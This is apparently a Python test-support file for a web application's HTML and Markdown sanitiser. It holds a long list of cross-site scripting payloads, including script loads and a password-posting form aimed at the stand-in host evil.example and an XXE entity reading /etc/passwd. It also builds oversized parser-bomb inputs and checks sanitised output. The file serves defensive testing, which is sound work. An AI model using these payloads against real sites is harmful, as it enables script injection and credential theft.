"""Texts by people who wish us ill, and what any page may contain whatever they typed."""

import re

import html5lib

from consult.core.text.links import REL, safe_address
from consult.core.text.sanitising import ELEMENTS

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='jav&Tab;ascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://a.example' onclick='alert(1)' style='position:fixed' target=_blank id=x name=y>x</a>",
    '<a href="https://a.example/" onmouseover="alert(1)">x</a>',
    "<a href='https://a.example/\"><script>alert(1)</script>'>x</a>",
    "<p style='background:url(javascript:alert(1))' class=admin id=csrf>x</p>",
    "<div style=expression(alert(1))>x</div>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:/a/-alert(1)///////'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x",
    "<textarea autofocus onfocus=alert(1)>x",
    "<details open ontoggle=alert(1)>x",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<b onclick=alert(1)>x</b>",
    "<p/onclick=alert(1)>x",
    "<p\x00onclick=alert(1)>x",
    "<p\x0conclick=alert(1)>x",
    "<\x00script>alert(1)</script>",
    "\x3cscript\x3ealert(1)\x3c/script\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "＜script＞alert(1)＜/script＞",
    "</p></div></main><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<a href='https://a.example'><a href='javascript:alert(1)'>x</a></a>",
    "<ul><li><script>alert(1)</script></ul>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img alt='<script>alert(1)</script>' src='https://a.example/x.png'>",
    "<img alt='\"><script>alert(1)</script>' src='javascript:alert(1)'>",
    "{{ 7*7 }}{% raw %}${7*7}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.example)",
    "[x](/account/delete)",
    "[x](\\javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://a.example/ 'onmouseover=alert(1)')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'><script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](https://a.example/x.png)",
    "![x'\"onerror='alert(1)](https://a.example/x.png)",
    "[![x](https://a.example/x.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://a.example/onmouseover=alert(1)>",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'onmouseover='alert(1)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "**<script>alert(1)</script>**",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
]

BOMBS = {
    name: (piece * 60_000)[:50_000]
    for name, piece in {
        "brackets": "[",
        "closed brackets": "[]",
        "links": "[a](",
        "images": "![",
        "stars": "*",
        "stars and words": "*a **b ",
        "underscores": "_a",
        "mixed emphasis": "*_",
        "quotations": ">",
        "quotations and words": "> a\n",
        "items": "- ",
        "numbers": "1. ",
        "headings": "# ",
        "backslashes": "\\",
        "backquotes": "`a``",
        "angles": "<",
        "addresses": "<http://a ",
        "bare addresses": "http://a.fr/",
        "closing brackets": "https://a.fr/)))))))",
        "open tags": "<a ",
        "open quotes": '<a "',
        "open comments": "<!--",
        "programs": "<script>",
        "bold": "<b>",
        "different bold": "<b a=1><i b=2><p>x",
        "lists": "<ul>",
        "lists and items": "<ul><li>x",
        "items alone": "<li>x",
        "tables": "<table><tr><td>x",
        "entities": "&#9",
        "ampersands": "&",
        "spaces": "            x",
        "tabs": "\t",
        "newlines": "\n",
        "accents": "\u0301",
        "joiners": "👨\u200d",
        "half characters": "\ud83d",
    }.items()
}
BOMBS["strong in strong"] = "**a " * 7_000 + "b** " * 5_000
BOMBS["deeper and deeper"] = "\n".join(" " * (2 * depth) + "- a" for depth in range(220))
BOMBS["brackets in brackets"] = "[" * 25_000 + "]" * 25_000
BOMBS["an open bracket before many"] = "[" * 200 + "\\[" * 24_000
BOMBS["a huge entity"] = "&#" + "9" * 50_000 + ";"
BOMBS["quotation dragging on"] = "> " * 200 + "a\n" + "b\n" * 20_000

_TAG = re.compile(r"<[^>]*>")


def check_harmless(html: str) -> None:
    """An independent parser finds nothing but our few elements, our few attributes and safe addresses."""
    tree = html5lib.parseFragment(html, container="main", namespaceHTMLElements=False)
    deepest = 0
    stack = [(tree, 0)]
    while stack:
        element, depth = stack.pop()
        deepest = max(deepest, depth)
        for child in element:
            assert isinstance(child.tag, str), f"a comment came through: {html[:200]!r}"
            assert child.tag in ELEMENTS, f"<{child.tag}> came through: {html[:200]!r}"
            _check_attributes(child.tag, child.attrib)
            stack.append((child, depth + 1))
    assert deepest < 40
    for tag in _TAG.findall(html):
        assert re.fullmatch(r'</?[a-z]+(?: (?:href|rel|start|value)="[^"<>]*")*>', tag), tag


def _check_attributes(element: str, attributes: dict[str, str]) -> None:
    if element == "a":
        assert set(attributes) <= {"href", "rel"}
        assert attributes["rel"] == REL
        if "href" in attributes:
            assert safe_address(attributes["href"]) == attributes["href"]
    elif element in ("ol", "li"):
        assert set(attributes) <= {"start" if element == "ol" else "value"}
        assert all(value.isdigit() for value in attributes.values())
    else:
        assert not attributes


def words_of(html: str) -> list[str]:
    """The words an independent parser finds."""
    tree = html5lib.parseFragment(html, container="main", namespaceHTMLElements=False)
    return re.findall(r"\w+", " ".join(tree.itertext()))
